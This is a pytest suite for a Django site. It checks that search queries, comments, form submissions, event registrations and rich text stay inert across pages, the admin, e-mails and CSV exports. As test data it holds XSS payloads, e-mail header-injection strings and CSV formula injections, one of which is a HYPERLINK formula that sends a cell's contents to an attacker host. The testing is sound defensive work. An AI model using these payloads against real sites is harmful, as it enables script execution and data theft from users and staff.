"""Visitors' words are data, never markup or commands: a script payload typed into a
search, a form, a comment or a registration comes out inert in the HTML shell (its
inlined JSON and JSON-LD), the admin, e-mails and CSV exports; editors' rich text is
sanitised before the SPA inserts it."""

from __future__ import annotations

import csv
import io
import json
import re
from html import unescape
from urllib.parse import urlsplit

import pytest
from django.core import mail

from blog.factories import BlogIndexPageFactory, BlogPageFactory, CommentFactory
from core.factories import StandardPageFactory, rich_text_block
from core.models import SearchPage
from events.factories import EventIndexPageFactory, EventPageFactory
from events.models import Registration
from forms.factories import FormFieldFactory, FormPageFactory
from taxonomy.factories import LicenseTypeFactory

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
CLOSE_SCRIPT = "</script><script>alert(1)</script>"
JS_URL = "javascript:alert(1)"
MARKUP_PAYLOADS = [SCRIPT, ATTRIBUTE, CLOSE_SCRIPT]
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+1", "-1+1", "@SUM(A1:A2)"]
HEADER_INJECTION = "Ana\r\nBcc: victim@evil.example"


def script_elements(html: str) -> list[tuple[str, str]]:
    """(attributes, content) of every ``<script>`` element."""
    return re.findall(r"<script([^>]*)>(.*?)</script>", html, re.S)


def assert_inert_html(html: str, payload: str) -> None:
    """The payload appears nowhere as markup: not as typed, no element it opened, and no
    ``<script>`` holds a raw ``<`` (so none was closed early or smuggled in)."""
    assert payload not in html
    assert "<img src=x" not in html
    for _attributes, content in script_elements(html):
        assert "<" not in content, content[:200]


def inlined_data(html: str) -> dict:
    match = re.search(r'<script[^>]* id="firelight-data"[^>]*>(.*?)</script>', html, re.S)
    assert match, html[:500]
    return json.loads(match.group(1))


def json_ld(html: str) -> list:
    return [
        json.loads(content)
        for content in re.findall(
            r'<script[^>]* type="application/ld\+json"[^>]*>(.*?)</script>', html, re.S
        )
    ]


def html_parts(email) -> list:
    """The message's HTML parts (alternatives or attachments)."""
    return [part for part in email.message().walk() if part.get_content_type() == "text/html"]


def csv_rows(response) -> list[dict[str, str]]:
    content = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(content)))


@pytest.mark.django_db
class TestSearchQuery:
    @pytest.fixture
    def search(self, home, site_settings, spa_build):
        home.add_child(instance=SearchPage(title="Search", slug="search"))

    @pytest.mark.parametrize("payload", MARKUP_PAYLOADS)
    def test_the_shell_echoes_the_query_as_data(self, client, search, payload):
        response = client.get("/search/", {"q": payload})
        assert response.status_code == 200
        html = response.content.decode()
        assert_inert_html(html, payload)
        assert inlined_data(html)["page"]["query"] == payload
        for item in json_ld(html):
            assert payload not in json.dumps(item)

    def test_a_javascript_url_query_becomes_no_link(self, client, search):
        html = client.get("/search/", {"q": JS_URL}).content.decode()
        assert 'href="javascript:' not in html.lower()
        assert inlined_data(html)["page"]["query"] == JS_URL

    def test_the_api_answers_json_only(self, client, search):
        response = client.get("/api/search/", {"q": CLOSE_SCRIPT})
        assert response["Content-Type"] == "application/json"
        assert response.json()["query"] == CLOSE_SCRIPT


@pytest.mark.django_db
class TestComments:
    @pytest.fixture
    def post(self, home, site_settings, spa_build):
        blog = BlogIndexPageFactory(parent=home)
        return BlogPageFactory(parent=blog, slug="p", title="A post")

    @pytest.mark.parametrize("payload", MARKUP_PAYLOADS)
    def test_an_approved_comment_is_inert_in_the_post_and_the_blog_index(
        self, client, post, payload
    ):
        CommentFactory(post=post, name="Ana", body=f"Kind words {payload}", status="approved")
        html = client.get("/blog/p/").content.decode()
        assert_inert_html(html, payload)
        assert inlined_data(html)["page"]["comments"][0]["body"] == f"Kind words {payload}"
        posting = next(item for item in json_ld(html) if item.get("@type") == "BlogPosting")
        assert posting["commentCount"] == 1
        index = client.get("/blog/").content.decode()
        assert_inert_html(index, payload)

    def test_a_name_with_markup_is_refused(self, client, post):
        response = client.post(
            f"/api/blog/posts/{post.pk}/comments/",
            {"name": ATTRIBUTE, "body": "Hello there"},
            content_type="application/json",
        )
        assert response.status_code == 400
        assert response.json()["error"]["fields"]["name"] == [
            "Use letters, spaces and punctuation only."
        ]

    def test_staff_read_comments_escaped_and_export_them_without_formulas(self, admin_client, post):
        CommentFactory(post=post, name=FORMULAS[0], body=SCRIPT, status="pending")
        for url in ("/admin/blog_comments/", "/admin/"):  # listing, dashboard panel
            response = admin_client.get(url)
            assert response.status_code == 200
            assert SCRIPT not in response.content.decode(), url
        [row] = csv_rows(admin_client.get("/admin/blog_comments/", {"export": "csv"}))
        assert row["Name"] == "'" + FORMULAS[0]
        assert row["Comment"] == SCRIPT  # text is not a formula: kept as it was written


@pytest.mark.django_db
class TestFormSubmissions:
    @pytest.fixture
    def form(self, home, site_settings):
        page = FormPageFactory(parent=home, slug="contact", to_address="team@firelight.example")
        FormFieldFactory(page=page, label="Your name")
        FormFieldFactory(page=page, label="Message", field_type="multiline")
        return page

    def submit(self, client, form, name: str, message: str, capture):
        with capture(execute=True):
            response = client.post(
                f"/api/forms/{form.pk}/submissions/",
                {"your_name": name, "message": message},
                content_type="application/json",
            )
        assert response.status_code == 201, response.content

    def test_the_notification_is_plain_text_and_a_name_cannot_add_headers(
        self, client, form, django_capture_on_commit_callbacks
    ):
        self.submit(client, form, HEADER_INJECTION, ATTRIBUTE, django_capture_on_commit_callbacks)
        [email] = mail.outbox
        assert email.recipients() == ["team@firelight.example"]
        assert html_parts(email) == []  # no HTML to inject into
        message = email.message()
        assert message["Bcc"] is None
        assert "victim@evil.example" not in str(message["To"]) + str(message["Subject"])

    @pytest.mark.parametrize("payload", MARKUP_PAYLOADS)
    def test_staff_read_submissions_escaped(
        self, client, admin_client, form, payload, django_capture_on_commit_callbacks
    ):
        self.submit(client, form, payload, payload, django_capture_on_commit_callbacks)
        listing = admin_client.get(f"/admin/forms/submissions/{form.pk}/")
        assert listing.status_code == 200
        assert payload not in listing.content.decode()
        dashboard = admin_client.get("/admin/")
        assert payload not in dashboard.content.decode()

    def test_the_csv_export_runs_no_formula(
        self, client, admin_client, form, django_capture_on_commit_callbacks
    ):
        for formula in FORMULAS:
            self.submit(client, form, formula, formula, django_capture_on_commit_callbacks)
        self.submit(client, form, "Ana Example", "Plain words", django_capture_on_commit_callbacks)
        export = admin_client.get(f"/admin/forms/submissions/{form.pk}/", {"export": "csv"})
        rows = csv_rows(export)
        names = sorted(row["Your name"] for row in rows)
        assert names == sorted(["Ana Example", *("'" + formula for formula in FORMULAS)])
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@")), row


@pytest.mark.django_db
class TestRegistrations:
    @pytest.fixture
    def event(self, home, site_settings):
        events = EventIndexPageFactory(parent=home)
        return EventPageFactory(parent=events, slug="ll", title="Lunch & Learn")

    def register(self, client, event, name: str, email: str, capture):
        license_type = LicenseTypeFactory()
        with capture(execute=True):
            response = client.post(
                f"/api/events/{event.pk}/registrations/",
                {
                    "name": name,
                    "email": email,
                    "license_type": license_type.pk,
                    "state": license_type.state.code,
                    "consent": True,
                },
                content_type="application/json",
            )
        assert response.status_code == 201, response.content
        return Registration.objects.get(email=email)

    def test_the_confirmation_is_plain_text_and_a_name_cannot_add_headers(
        self, client, event, django_capture_on_commit_callbacks
    ):
        registration = self.register(
            client, event, HEADER_INJECTION, "ana@example.com", django_capture_on_commit_callbacks
        )
        assert registration.name == "Ana Bcc: victim@evil.example"  # one line
        [email] = mail.outbox
        assert email.recipients() == ["ana@example.com"]
        assert html_parts(email) == []
        assert email.message()["Bcc"] is None
        assert "Hello Ana Bcc: victim@evil.example," in email.body

    def test_staff_read_registrations_escaped_and_export_them_without_formulas(
        self, client, admin_client, event, django_capture_on_commit_callbacks
    ):
        capture = django_capture_on_commit_callbacks
        marked_up = self.register(client, event, ATTRIBUTE, "ana@example.com", capture)
        self.register(client, event, FORMULAS[0], "ben@example.com", capture)
        listing = admin_client.get("/admin/event_registrations/")
        assert listing.status_code == 200
        assert ATTRIBUTE not in listing.content.decode()
        cancel_url = f"/admin/event_registrations/cancel/{marked_up.pk}/"
        assert ATTRIBUTE not in admin_client.get(cancel_url).content.decode()
        cancelled = admin_client.post(cancel_url, follow=True)
        assert cancelled.status_code == 200
        assert "Registration of" in cancelled.content.decode()  # the message is shown…
        assert ATTRIBUTE not in cancelled.content.decode()  # …escaped
        rows = csv_rows(admin_client.get("/admin/event_registrations/", {"export": "csv"}))
        assert sorted(row["Name"] for row in rows) == sorted([ATTRIBUTE, "'" + FORMULAS[0]])


@pytest.mark.django_db
def test_newsletter_addresses_are_exported_without_formulas(client, admin_client, home):
    """``=1+2@example.com`` is a valid e-mail address, and a formula."""
    response = client.post(
        "/api/newsletter/subscriptions/",
        {"email": "=1+2@example.com"},
        content_type="application/json",
    )
    assert response.status_code == 202
    rows = csv_rows(admin_client.get("/admin/newsletter_subscribers/", {"export": "csv"}))
    assert [row["Email"] for row in rows] == ["'=1+2@example.com"]


@pytest.mark.django_db
def test_matcher_errors_echo_input_as_json_only(client, home, site_settings):
    response = client.post(
        "/api/match/",
        {"states": ["<s"], "time_zone": SCRIPT},
        content_type="application/json",
    )
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
class TestEditorsRichText:
    """Extends the resolve tests' ``<script>`` case: every other way rich text could
    run script is removed too."""

    @pytest.mark.parametrize(
        ("html", "expected"),
        [
            ('<p>Hi<img src="x" onerror="alert(1)"></p>', "<p>Hi</p>"),
            (
                '<p><a href="https://example.org/" onclick="alert(1)">out</a></p>',
                '<p><a href="https://example.org/">out</a></p>',
            ),
            ('<p><a href="JaVaScRiPt:alert(1)">x</a></p>', "<p><a>x</a></p>"),
            ('<p><a href=" javascript:alert(1)">x</a></p>', "<p><a>x</a></p>"),
            # Not decoded: a relative link to "&#106;avascript…", which runs nothing.
            (
                '<p><a href="&#106;avascript:alert(1)">x</a></p>',
                '<p><a href="&amp;#106;avascript:alert(1)">x</a></p>',
            ),
            ('<p><a href="data:text/html,&lt;script&gt;">x</a></p>', "<p><a>x</a></p>"),
            ('<p style="background:url(javascript:alert(1))">x</p>', "<p>x</p>"),
            ('<p>x</p><iframe src="https://evil.example/"></iframe>', "<p>x</p>"),
            ('<svg onload="alert(1)"><p>x</p></svg>', "<p>x</p>"),
            ("<p>a</p><style>p{}</style><p>b</p>", "<p>a</p><p>b</p>"),
        ],
    )
    def test_script_carrying_markup_is_removed(self, client, home, site_settings, html, expected):
        StandardPageFactory(parent=home, slug="page", body=[rich_text_block(html)])
        response = client.get("/api/pages/resolve/", {"path": "/page/"})
        output = response.json()["body"][0]["value"]["html"]
        assert output == expected
        for href in re.findall(r'href="([^"]*)"', output):
            scheme = urlsplit(unescape(href).strip()).scheme.lower()
            assert scheme in {"", "http", "https", "mailto", "tel"}, href
